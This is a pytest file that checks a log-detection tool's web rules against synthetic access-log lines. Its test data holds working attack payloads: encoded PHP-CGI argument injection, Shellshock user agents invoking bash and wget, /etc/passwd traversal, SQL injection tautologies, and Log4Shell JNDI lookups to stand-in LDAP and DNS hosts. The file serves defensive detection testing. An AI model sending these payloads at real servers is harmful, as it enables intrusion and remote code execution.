"""Encoded web attacks, header injection, scanners and probes through ``sentinel detect`` on raw access lines.

The lines are written in the shapes seen from exploit bots on the internet (fully percent-encoded
PHP-CGI options, Shellshock user agents with nginx's ``\\xNN`` escapes, ZmEu and w00tw00t scans,
proxy probes), with documentation addresses.
"""

from __future__ import annotations

import json
from pathlib import Path

from click.testing import CliRunner

from sentinel.cli.main import cli
from sentinel.config import DEFAULT_CONTENT_DIR

RULES = DEFAULT_CONTENT_DIR / "rules" / "web"
PHP_CGI = (
    "/index.php?%2D%64+%61%6C%6C%6F%77%5F%75%72%6C%5F%69%6E%63%6C%75%64%65%3D%6F%6E+%2D%64+%73%61%66%65%5F%6D%6F%64"
    "%65%3D%6F%66%66+%2D%64+%61%75%74%6F%5F%70%72%65%70%65%6E%64%5F%66%69%6C%65%3D%70%68%70%3A%2F%2F%69%6E%70%75%74"
)


def line(ip: str, request: str, status: int, agent: str = "Mozilla/5.0 (X11; Linux x86_64)", sec: int = 0) -> str:
    return f'{ip} - - [01/Jul/2026:10:00:{sec:02d} +0700] "{request}" {status} 0 "-" "{agent}"'


def run(tmp_path: Path, lines: list[str]) -> dict[str, set[str]]:
    log = tmp_path / "access.log"
    log.write_text("\n".join(lines) + "\n")
    result = CliRunner().invoke(cli, ["detect", "--rules", str(RULES), str(log)])
    assert result.exit_code == 0, result.output
    found: dict[str, set[str]] = {}
    for text in result.stdout.splitlines():
        alert = json.loads(text)
        found.setdefault(alert["rule"]["title"], set()).add(alert["events"][0]["source"]["ip"])
    return found


def test_encoded_and_header_attacks_are_caught(tmp_path: Path) -> None:
    found = run(
        tmp_path,
        [
            line("198.51.100.1", f"POST {PHP_CGI} HTTP/1.1", 404, "-", 1),
            line("198.51.100.2", "GET /cgi-bin/status HTTP/1.1", 404, "() { :;}; /bin/bash -c \\x22wget x\\x22", 2),
            line("198.51.100.3", "GET /tai-lieu/tai-ve?tep=%252e%252e%252f%252e%252e%252fetc%252fpasswd HTTP/1.1", 400),
            line("198.51.100.4", "GET /tra-cuu?id=1%27%20or%20true-- HTTP/1.1", 200, sec=4),
            line("198.51.100.5", "GET /w00tw00t.at.ISC.SANS.DFind:) HTTP/1.1", 400, "-", 5),
            line("198.51.100.6", "GET /phpmyadmin/scripts/setup.php HTTP/1.1", 404, "ZmEu", 6),
            line("198.51.100.7", "GET http://www.example.com/ HTTP/1.1", 400, sec=7),
            line("198.51.100.8", "CONNECT www.example.com:443 HTTP/1.1", 400, sec=8),
        ],
    )
    assert found.get("PHP-CGI argument injection through the query string") == {"198.51.100.1"}
    assert found.get("Injection payload in a request header (Shellshock, SQL)") == {"198.51.100.2"}
    assert "198.51.100.3" in found.get("Path traversal or local file read attempt against the portal", set())
    assert found.get("SQL injection tautology in a portal query string") == {"198.51.100.4"}
    scanners = found.get("Vulnerability scanner or attack tool user agent", set())
    assert {"198.51.100.5", "198.51.100.6"} <= scanners
    assert found.get("Open-proxy probe against the portal (absolute URL or CONNECT)") == {
        "198.51.100.7",
        "198.51.100.8",
    }


def test_web_shell_severity_follows_the_answer(tmp_path: Path) -> None:
    found = run(
        tmp_path,
        [
            line("203.0.113.1", "GET /wp-content/plugins/wso.php HTTP/1.1", 404),
            line("203.0.113.2", "GET /uploads/2026/07/x.php HTTP/1.1", 200, sec=1),
            line("203.0.113.3", "POST /uploads/2026/07/y.php HTTP/1.1", 500, sec=2),
        ],
    )
    assert found.get("Probe for a web shell (request answered 3xx or 4xx)") == {"203.0.113.1"}
    assert found.get("Access to a likely web shell on the portal") == {"203.0.113.2", "203.0.113.3"}


def test_ordinary_portal_traffic_raises_nothing(tmp_path: Path) -> None:
    found = run(
        tmp_path,
        [
            line("14.161.2.3", "GET /dich-vu-cong/tra-cuu?tuKhoa=ho+so+dat+dai HTTP/1.1", 200),
            line("14.161.2.3", "GET /tim-kiem?q=%C4%91%E1%BA%A5t+%C4%91ai%27s HTTP/1.1", 200, sec=1),
            line("14.161.2.4", "GET /static/js/app.js HTTP/1.1", 200, sec=2),
            line("14.161.2.5", "GET /dang-nhap?returnUrl=%2Fdich-vu-cong%2Fho-so HTTP/1.1", 302, sec=3),
        ],
    )
    assert found == {}


def test_injection_in_any_logged_header_is_caught(tmp_path: Path) -> None:
    """Headers the log format carries (nginx key=value, Apache's bare quoted values, JSON access logs)."""
    benign = "Mozilla/5.0 (X11; Linux x86_64)"
    json_line = json.dumps(
        {
            "time_local": "01/Jul/2026:10:00:05 +0700",
            "remote_addr": "198.51.100.24",
            "request": "GET /tra-cuu HTTP/1.1",
            "status": "200",
            "body_bytes_sent": "10",
            "http_user_agent": benign,
            "http_cookie": "sid=1%27%20or%201=1--",
        }
    )
    found = run(
        tmp_path,
        [
            line("198.51.100.21", "GET / HTTP/1.1", 200, sec=1) + ' xff="${jndi:ldap://198.51.100.21:1389/a}"',
            line("198.51.100.22", "GET /api/ho-so HTTP/1.1", 200, sec=2) + ' api="${${lower:j}ndi:dns://x.example/a}"',
            line("198.51.100.23", "GET /cgi-bin/x HTTP/1.1", 404, sec=3) + ' http_x_custom="() { :;}; /bin/id"',
            line("198.51.100.25", "GET / HTTP/1.1", 200, sec=4) + ' "-" "%24%7Bjndi:ldap://x.example/a%7D"',
            json_line,
            line("198.51.100.26", "GET / HTTP/1.1", 200, sec=6) + ' xff="203.0.113.9, 10.0.0.5" cookie="lang=vi"',
        ],
    )
    log4shell = "JNDI lookup injection (Log4Shell) in a request line or header"
    assert found.get(log4shell) == {"198.51.100.21", "198.51.100.22", "198.51.100.25"}
    assert found.get("Injection payload in a request header (Shellshock, SQL)") == {"198.51.100.23", "198.51.100.24"}
    assert not any("198.51.100.26" in ips for ips in found.values())
